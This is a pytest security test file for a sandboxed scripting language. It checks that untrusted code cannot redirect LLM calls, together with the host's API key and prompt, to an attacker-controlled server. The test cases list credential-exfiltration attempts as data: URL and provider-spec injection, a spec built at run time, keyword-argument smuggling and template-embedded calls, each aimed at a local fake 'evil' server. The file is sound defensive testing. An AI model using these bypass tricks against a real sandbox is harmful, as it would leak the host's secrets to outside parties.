"""Category 4 of issue 9: host credentials by request.

``reason(model=...)`` from untrusted code picks one of the host's aliases or nothing: a provider
spec or a URL would send the host's API key (and the prompt) to an address the program chose.
Two fake servers play the parts: ``fake_llm`` is the host's model, ``evil`` the attacker's
listener, which must never receive a request (so no key and no prompt ever reach it).
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from _attack import Attempt, check_refused, run_attempt

from danaflow.context import ExecutableTypeEnum, ExecutionContext
from danaflow.errors import TemplateError
from danaflow.flow import DanaNode, FlowDefinition, FlowRunner, InMemoryRun
from danaflow.lang.sandbox import SandboxContext
from danaflow.template import TemplateEngine
from danaflow.testing.fake_llm import FakeLLMServer

REFUSED = r"reason\(model=.*\) is refused: Dana may only pick a model the host named; want one of: fast"


@pytest.fixture
def evil() -> Iterator[FakeLLMServer]:
    """The attacker's server: any request reaching it is a leak."""
    with FakeLLMServer(default_reply="thanks for the key") as server:
        yield server


def _specs(evil: FakeLLMServer) -> dict[str, str]:
    return {
        "ANTHROPIC": evil.anthropic_spec,
        "OPENAI_COMPAT": evil.spec,
        "URL": evil.base_url,
        "PORT": str(evil.port),
    }


def _attempts() -> list[Attempt]:
    def t(id: str, source: str, kind: str = "SandboxError", refused: str = REFUSED, **options) -> Attempt:
        return Attempt(id, source, kind, refused, options)

    return [
        t("anthropic-url", 'r = reason("hi", model="ANTHROPIC")  # <-\nprint("ESCAPED", r)\n'),
        t("openai-compatible-url", 'r = reason("hi", model="OPENAI_COMPAT")  # <-\n'),
        t("bare-url", 'r = reason("hi", model="URL")  # <-\n'),
        t("provider-spec", 'r = reason("hi", model="openai:gpt-4o")  # <-\n'),
        t("anthropic-provider-spec", 'r = reason("hi", model="anthropic:claude-3-5-haiku-latest")  # <-\n'),
        t("starstar-model", 'o = {"model": "ANTHROPIC"}\nr = reason("hi", **o)  # <-\n'),
        t(
            "spec-built-at-run-time",
            'p = "openai-" + "compatible:http://127.0.0.1:" + "PORT" + "/v1#m"\n'
            'r = reason("hi", model=p)  # <-\n',
        ),
        t("alias-with-a-suffix", 'r = reason("hi", model="fast#other-model")  # <-\n'),
        t("alias-in-a-list", 'r = reason("hi", model=["fast"])  # <-\n'),
        t("alias-in-a-dict", 'r = reason("hi", model={"alias": "fast", "base_url": "URL"})  # <-\n'),
        t("use-llm-spec", 'r = use("llm").reason("hi", model="OPENAI_COMPAT")  # <-\n'),
        t("use-llm-starstar", 'r = use("llm").reason("hi", **{"model": "ANTHROPIC"})  # <-\n'),
        t(
            "inside-a-typed-function",
            'def ask() -> int:\n    return reason("n?", model="ANTHROPIC")  # <-\nn: int = ask()\n',
        ),
        t("in-process-too", 'r = reason("hi", model="ANTHROPIC")  # <-\n', isolation="inprocess"),
        t(
            "in-process-use-llm",
            'r = use("llm").reason("hi", model="URL")  # <-\n',
            isolation="inprocess",
        ),
    ]


ATTEMPTS = _attempts()


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=[a.id for a in ATTEMPTS])
def test_dana_cannot_send_the_key_elsewhere(attempt: Attempt, tmp_path: Path, fake_llm, evil) -> None:
    source = attempt.source
    for token, value in _specs(evil).items():
        source = source.replace(token, value)
    attempt = Attempt(attempt.id, source, attempt.kind, attempt.refused, attempt.options)
    llm = fake_llm.resource(models={"fast": fake_llm.spec})
    ctx = SandboxContext(reasoner=llm, resources={"llm": llm})
    outcome, source, sentinel = run_attempt(attempt, tmp_path, ctx)
    check_refused(outcome, attempt, source, sentinel)
    assert evil.requests == [], "the attacker's server was called"
    assert fake_llm.requests == [], "a refused call still reached the host's model"


def test_a_host_alias_is_the_way_to_pick_a_model(fake_llm, evil) -> None:
    from danaflow.lang.api import run

    fake_llm.reply("from the host's model")
    llm = fake_llm.resource(models={"fast": fake_llm.spec})
    ctx = SandboxContext(reasoner=llm, resources={"llm": llm})
    outcome = run('reason("hi", model="fast")', ctx, print_sink=lambda s: None)
    assert outcome.error is None, outcome.error
    assert outcome.value == "from the host's model"
    assert [r.prompt for r in fake_llm.requests] == ["hi"]
    assert evil.requests == []


TEMPLATES = [
    '$expr{reason("hi", model="ANTHROPIC")}',
    'Summary: $expr{reason("hi", model="OPENAI_COMPAT")}',
    '$expr{reason("hi", **{"model": "URL"})}',
    '$expr{use("llm").reason("hi", model="ANTHROPIC")}',
]


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda t: t[:40])
def test_a_template_cannot_send_the_key_elsewhere(template: str, fake_llm, evil) -> None:
    for token, value in _specs(evil).items():
        template = template.replace(token, value)
    llm = fake_llm.resource(models={"fast": fake_llm.spec})
    run_ = InMemoryRun(llm=llm, resources={"llm": llm})
    ctx = ExecutionContext(ExecutableTypeEnum.flow, "root", run_context=run_)
    with pytest.raises(TemplateError, match=r"is refused: Dana may only pick a model the host named") as exc:
        TemplateEngine.render_template(template, {}, ctx, name="prompt")
    assert exc.value.location is not None and exc.value.location.file == "prompt"
    assert evil.requests == [] and fake_llm.requests == []


async def test_a_dana_node_cannot_send_the_key_elsewhere(fake_llm, evil) -> None:
    flow = FlowDefinition("f").node("ask", DanaNode(program=f'reason("hi", model="{evil.anthropic_spec}")\n'))
    result = await FlowRunner(flow, InMemoryRun(llm=fake_llm.resource())).run()
    err = result.get_result("ask").error
    assert err is not None and err.type == "SandboxError", err
    assert "is refused" in err.message and err.location.endswith(":1:1")
    assert evil.requests == [] and fake_llm.requests == []
